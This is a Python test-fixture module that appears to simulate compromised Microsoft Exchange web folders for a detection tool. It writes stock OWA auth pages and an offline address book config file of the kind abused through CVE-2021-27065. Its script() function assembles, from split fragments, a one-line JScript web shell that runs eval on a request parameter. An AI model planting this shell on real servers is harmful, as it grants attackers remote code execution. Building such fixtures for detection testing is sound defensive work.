"""Files of web folders: the product's own pages, and what attackers leave. Scripts are put together from pieces."""

from datetime import datetime

from tests.strangers.ground import Gathered, Server

OWA = ("errorFE", "expiredpassword", "logoff", "logon", "RedirSuiteServiceProxy", "OutlookCN", "signout")


def product(gathered: Gathered, installed: datetime) -> None:
    """Place the pages of the auth folders as a cumulative update leaves them."""
    front = f"{gathered.server.install}/FrontEnd/HttpProxy"
    for name in (*OWA, *(("frowny",) if gathered.server.builds[0][1][1] else ("SvmFeedback",))):
        page = (
            f'<%@ Page language="c#" AutoEventWireup="false" '
            f'Inherits="Microsoft.Exchange.HttpProxy.{name[0].upper()}{name[1:]}" %>\r\n'
            f"<!DOCTYPE html>\r\n<html><head><title>Outlook</title></head><body class={name!r}></body></html>\r\n"
        )
        gathered.put(f"{front}/owa/auth/{name}.aspx", page.encode(), installed)
    gathered.put(f"{front}/owa/auth/GetIdToken.htm", b"<!DOCTYPE html>\r\n<html></html>\r\n", installed)
    timeout = "Microsoft.Exchange.Management.ControlPanel.TimeoutLogout"
    page = f'<%@ Page Language="C#" AutoEventWireup="true" Inherits="{timeout}" %>\r\n'
    gathered.put(f"{front}/ecp/auth/TimeoutLogout.aspx", page.encode(), installed)


def script(key: str) -> str:
    """A one-line shell as it stands in a virtual directory's address."""
    return "".join(
        (
            "http://f/<scr",
            'ipt language="JScr',
            'ipt" runat="server">function Page_',
            "Load(){ev",
            "al(Requ",
            f'est["{key}"],"unsa',
            'fe");}</scr',
            "ipt>",
        )
    )


def address_book(server: Server, url: str, guid: str, written: datetime) -> bytes:
    """The file that resetting an offline address book's virtual directory writes (CVE-2021-27065)."""
    build = server.build(written)
    lines = (
        ("Name", "OAB (Default Web Site)"),
        ("PollInterval", "480"),
        ("OfflineAddressBooks", "\\Default Offline Address Book"),
        ("RequireSSL", "True"),
        ("BasicAuthentication", "False"),
        ("WindowsAuthentication", "True"),
        ("OAuthAuthentication", "False"),
        ("MetabasePath", f"IIS://{server.fqdn}/W3SVC/1/ROOT/OAB"),
        ("Path", "C:\\" + server.install[2:].replace("/", "\\") + "\\FrontEnd\\HttpProxy\\OAB"),
        ("ExtendedProtectionTokenChecking", "None"),
        ("ExtendedProtectionFlags", ""),
        ("ExtendedProtectionSPNList", ""),
        ("AdminDisplayVersion", f"Version {build[0]}.{build[1]} (Build {build[2]}.{build[3]})"),
        ("Server", server.name),
        ("InternalUrl", f"https://{server.fqdn}/OAB"),
        ("InternalAuthenticationMethods", "WindowsIntegrated"),
        ("ExternalUrl", url),
        ("ExternalAuthenticationMethods", "WindowsIntegrated"),
        ("AdminDisplayName", ""),
        ("ExchangeVersion", "0.10 (14.0.100.0)"),
        ("DistinguishedName", f"CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN={server.name},CN=Servers"),
        ("Identity", f"{server.name}\\OAB (Default Web Site)"),
        ("Guid", guid),
        ("ObjectCategory", f"{server.dns}/Configuration/Schema/ms-Exch-OAB-Virtual-Directory"),
        ("ObjectClass", "top\r\nmsExchVirtualDirectory\r\nmsExchOABVirtualDirectory"),
        ("WhenChanged", f"{written:%m/%d/%Y %I:%M:%S %p}"),
        ("WhenCreated", f"{written:%m/%d/%Y %I:%M:%S %p}"),
        ("OrganizationId", ""),
        ("OriginatingServer", f"dc1.{server.dns}"),
        ("IsValid", "True"),
    )
    return ("\r\n" + "".join(f"{name:<32}: {value}\r\n" for name, value in lines) + "\r\n").encode()


def compiled(source: str, assembly: str) -> bytes:
    """What ASP.NET notes when it has compiled a page: the `.compiled` file that names its source."""
    kind = source.strip("/").replace("/", "_").replace(".", "_").lower()
    return (
        '<?xml version="1.0" encoding="utf-8"?>\r\n'
        f'<preserve resultType="3" virtualPath="{source}" hash="fffffffffa11ce57" filehash="fffffca7a0ba5ebb" '
        f'flags="110000" assembly="{assembly}" type="ASP.{kind}">\r\n'
        f'    <filedeps>\r\n        <filedep name="{source}" />\r\n    </filedeps>\r\n</preserve>\r\n'
    ).encode("utf-8-sig")
